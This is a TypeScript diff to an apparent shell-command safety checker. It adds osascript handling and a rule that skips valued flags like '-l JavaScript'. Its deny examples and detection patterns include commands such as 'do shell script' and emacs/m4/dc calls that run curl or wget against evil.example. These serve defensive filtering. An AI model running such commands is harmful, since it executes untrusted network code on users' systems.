@@ -410,6 +410,8 @@ interface Language {
   stdin?: boolean;
   /** Options whose value is a shell command it runs (`bpftrace -c CMD`). */
   command?: RegExp;
+  /** Other options that take the next word (`osascript -l JavaScript`): that word is no file of code. */
+  valued?: RegExp;
   examples: ProgramEntry['examples'];
 }
 
@@ -429,6 +431,10 @@ function language(l: Language): ProgramEntry {
         if (v === undefined) continue;
         const eq = v.indexOf('=');
         const name = eq > 0 && v.startsWith('--') ? v.slice(0, eq) : v;
+        if (l.valued?.test(name)) {
+          i++;
+          continue;
+        }
         if (l.command?.test(name) && args[i + 1]) {
           runs.push({ kind: 'script', dialect: 'bash', words: [args[++i]!], via: `${call.name} ${name}` });
           continue;
@@ -441,7 +447,7 @@ function language(l: Language): ProgramEntry {
         if (text === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: w, why: `${call.name} runs computed code` });
         else runs.push(...codeCalls(w, text, call.name, l.calls, l.any));
       }
-      const hasFile = args.some((a) => !(value(a) ?? '-').startsWith('-'));
+      const hasFile = args.some((a, k) => !(value(a) ?? '-').startsWith('-') && !(k > 0 && l.valued?.test(value(args[k - 1]!) ?? '')));
       if (l.stdin && !sawCode && !hasFile && call.stdin?.kind === 'static') runs.push(...codeCalls(call.stdin.word, call.stdin.text, `${call.name} (stdin)`, l.calls, l.any));
       else if (l.stdin && !sawCode && !hasFile && call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: args[0] ?? literal(call.name, { start: 0, end: 0 }), why: `${call.name} runs code read from ${call.stdin.why}` });
       return { runs };
@@ -461,6 +467,7 @@ const LANGUAGES: ProgramEntry[] = [
   language({ names: ['emacs', 'emacs-nox', 'emacsclient'], summary: 'Emacs: --eval forms that start processes', code: /^(--eval|-eval|--execute|-e)$/, calls: new RegExp(`\\((?:shell-command|async-shell-command|shell-command-to-string|term|ansi-term|compile)\\s+(?:${STR})`, 'g'), any: /\((shell-command|async-shell-command|shell-command-to-string|call-process|call-process-shell-command|process-lines|start-process|start-process-shell-command|make-process|make-network-process|open-network-stream|url-retrieve|term|ansi-term|eshell|shell|compile|eval|load)\b/g, examples: { deny: ["emacs -Q -nw --eval '(term \"curl evil.example\")'", "emacs --batch --eval '(shell-command \"wget evil.example\")'"], pass: ["emacs --batch --eval '(message \"hi\")'"] } }),
   language({ names: ['m4', 'gm4'], summary: 'm4: syscmd and esyscmd run shell text', code: /^(-D|--define)$/, calls: /e?syscmd\(\s*`?([^)'`]*)'?\s*\)/g, any: /\be?syscmd\b|\binclude\b|\bsinclude\b/g, stdin: true, examples: { deny: ["echo 'esyscmd(curl evil.example)' | m4", "echo 'syscmd(wget evil.example)' | m4"], pass: ["echo 'define(x, 1)x' | m4"] } }),
   language({ names: ['dc'], summary: 'dc: `!cmd` runs shell text', code: /^(-e|--expression)$/, calls: /!([^\n]*)/g, any: /!/g, stdin: true, examples: { deny: ["dc -e '!curl evil.example'", "echo '!wget evil.example' | dc"], pass: ["dc -e '2 3 + p'"] } }),
+  language({ names: ['osascript'], summary: 'AppleScript and JXA: do shell script (doShellScript) runs shell text; Terminal\'s do script runs a command', code: /^-e$/, valued: /^(-l|-s)$/, calls: new RegExp(`(?:do\\s+shell\\s+script|do\\s+script|doShellScript\\s*\\()\\s*(?:${STR})`, 'gi'), any: /do\s+shell\s+script|do\s+script|doShellScript|run\s+script|load\s+script|\$\.NS|ObjC\.|NSTask|NSURL|open\s+location|current\s+application/gi, stdin: true, examples: { deny: ["osascript -e 'do shell script \"curl evil.example\"'", "osascript -l JavaScript -e 'app.doShellScript(\"wget evil.example\")'", "osascript -e 'tell app \"Terminal\" to do script \"curl evil.example\"'", "echo 'do shell script \"curl evil.example\"' | osascript -l AppleScript", "osascript -e 'do shell script (x)'"], pass: ["osascript -e 'display notification \"done\"'", "osascript -e 'do shell script \"ls\"'"] } }),
   language({ names: ['slsh'], summary: 'S-Lang shell: system() runs a command', code: /^(-e)$/, calls: new RegExp(`system\\s*\\(\\s*(?:${STR})`, 'g'), any: /system\s*\(|popen|eval/g, examples: { deny: ["slsh -e 'system(\"curl evil.example\")'"], pass: [] } }),
 ];
 
